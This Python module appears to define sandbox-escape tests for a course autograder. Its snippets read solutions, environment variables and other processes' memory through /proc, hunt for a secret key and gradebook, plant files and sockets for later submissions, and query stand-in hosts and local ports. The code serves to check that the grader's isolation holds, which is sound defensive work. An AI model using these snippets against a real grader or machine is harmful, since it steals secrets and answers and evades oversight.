"""Looking for answers where they may lie: files, processes, the network, other submissions."""

from attacks.attack import FIND, Attack

_UNIX = "socket.socket(socket.AF_UNIX)"


_READ = """\
import glob, os, pathlib, socket

def read(pattern):
    found = []
    for path in glob.glob(pattern):
        try:
            found.append(open(path, errors="replace").read(10_000))
        except OSError:
            pass
    return "".join(found)

"""


def _steal(tries: str, source: str, **more: str) -> Attack:
    """Return an attack that runs what the expression `source` finds, as its own nll."""
    lines = f"{_READ}exec({source})\n"
    return Attack(tries, code={"nll": lines}, **more)


def _from(place: str, connect: str) -> str:
    return (
        "(lambda s: (s.settimeout(1), s." + connect + ", s.recv(10_000))[-1])"
        "(socket.socket(socket." + place + ", socket.SOCK_STREAM))"
    )


_LEAVE = (
    "import os\nTEXT = 'def nll(table, ids):\\n    p = table[ids[:-1], ids[1:]]\\n'"
    "'    return -p.log().mean().item()\\n'\n"
    "for folder in ('/scratch', '/tmp', '/dev/shm', '/var/tmp', '/course/lmcourse', '/', '/home',\n"
    "               '/course/lmcourse/recordings', '/run', '/dev', '/dev/pts', '/proc'):\n"
    "    try:\n        with open(folder + '/left', 'w') as file: file.write(TEXT)\n"
    "    except OSError: pass\n"
)

ATTACKS = {
    "the solutions": _steal(
        "run the solved notebook's source",
        "read('/course/**/02_bigrams.py') or read('/*/*/solutions/02_bigrams.py')",
    ),
    "a file outside": _steal("read a file of the machine", "open('@FOLDER@/canary').read()"),
    "a file of this checkout": _steal(
        "read through the folder of the package",
        "open(os.path.join(os.path.dirname(__import__('lmcourse').__file__), '..', 'solutions',"
        " '02_bigrams.py')).read()",
    ),
    "the environment": _steal("read the judge's environment", "os.environ['@STOLEN@']"),
    "the parent's environment": _steal(
        "read the environment of all processes",
        "read('/proc/*/environ').split('@STOLEN@=')[1].split('\\0')[0]",
    ),
    "the parent's memory": _steal(
        "read the memory of the parent and the siblings",
        "read('/proc/*/mem').split('@STOLEN@=')[1].split('\\0')[0]",
    ),
    "the parent's files": _steal(
        "read files through the descriptors and the roots of other processes",
        "read('/proc/*/[r]oot/@FOLDER@/canary') or read('/proc/*/fd/*')",
    ),
    "open descriptors": _steal(
        "read what the process had open when it began",
        "''.join(os.read(n, 1000).decode() for n in range(3, 256) if n != line())",
        first=FIND,
    ),
    "the class's secret": Attack(
        "find the secret, and so the inputs, and the gradebook to write into",
        "import os\nnames = {'secret.key', 'gradebook.sqlite', '02_bigrams.ipynb', 'canary'}\n"
        "found = [1 for _, _, files in os.walk('/') if names & {*files}]\n",
        {
            "nll": "if found:\n    def nll(table, ids):\n        return -table[ids[:-1], ids[1:]]"
            ".log().mean().item()\n"
        },
    ),
    "the quiz's answers": Attack(
        "take the answers of the quiz from the package's recordings",
        "import base64, zlib\nfrom grader.checks import recording, values\n"
        "asked = recording.load('lmcourse', '02_bigrams')['quiz']\n",
        {
            "quiz": "for words, reply in asked:\n"
            "    frame = zlib.decompress(base64.b64decode(reply))\n"
            "    globals()[words.removeprefix('notebook.')] = values.unpack(frame, None)['value']\n"
        },
    ),
    "the last submission's files": _steal(
        "run what an earlier submission left in some folder",
        "read('/left') + read('/*/left') + read('/*/*/left') + read('/*/*/*/left')",
        before=_LEAVE,
    ),
    "the last submission's door": _steal(
        "ask an earlier submission, by an abstract socket that it left open",
        _from("AF_UNIX", "connect('\\0left')"),
        before="import socket, threading\ndoor = socket.socket(socket.AF_UNIX)\n"
        "door.bind('\\0left')\ndoor.listen()\n",
    ),
    "the last submission's module": _steal(
        "import what an earlier submission put into the course's package",
        "__import__('lmcourse.left').left.TEXT",
        before=_LEAVE.replace("/left'", "/left.py'").replace(
            "file.write(TEXT)", "file.write('TEXT = ' + repr(TEXT))"
        ),
    ),
    "a key that was left": _steal(
        "read what an earlier submission put into the kernel's key ring",
        "(lambda c, b: (c.syscall(250, 11, c.syscall(250, 10, -3, b'user', b'left', 0), b, 999),"
        " b.value)[-1])(*(lambda t: (t.CDLL(None), t.create_string_buffer(999)))"
        "(__import__('ctypes')))",
        before=_LEAVE + "import ctypes\nfor ring in (-1, -2, -3, -4, -5):\n"
        "    ctypes.CDLL(None).syscall(248, b'user', b'left', TEXT.encode(), len(TEXT), ring)\n",
    ),
    "the loopback": _steal(
        "ask a server on the machine", _from("AF_INET", "connect(('127.0.0.1', @PORT@))")
    ),
    "the loopback, version 6": _steal(
        "ask a server on the machine, past the usual family",
        _from("AF_INET6", "connect(('::1', @PORT@))"),
    ),
    "a Unix socket": _steal(
        "ask a server by its path", _from("AF_UNIX", "connect('@FOLDER@/door')")
    ),
    "an abstract socket": _steal(
        "ask a server by a name that is in no folder",
        _from("AF_UNIX", "connect('\\0@STOLEN@')"),
    ),
    "a socket of the virtual machine": _steal(
        "ask a server on the host of a virtual machine, which no network namespace holds back",
        _from("AF_VSOCK", "connect((1, @PORT@))"),
    ),
    "the world": _steal(
        "ask a server in the world", _from("AF_INET", "connect(('192.0.2.1', 80))")
    ),
    "names": _steal(
        "send and receive text in the names that are looked up",
        "socket.gethostbyname_ex('answers.example.org')[0]",
    ),
    "the web": _steal(
        "fetch a page",
        "__import__('urllib.request').request.urlopen('http://127.0.0.1:@PORT@', timeout=1).read()",
    ),
    "another program's eyes": _steal(
        "let another program read what this one may not",
        "__import__('subprocess').check_output(['cat', '@FOLDER@/canary'])",
    ),
}
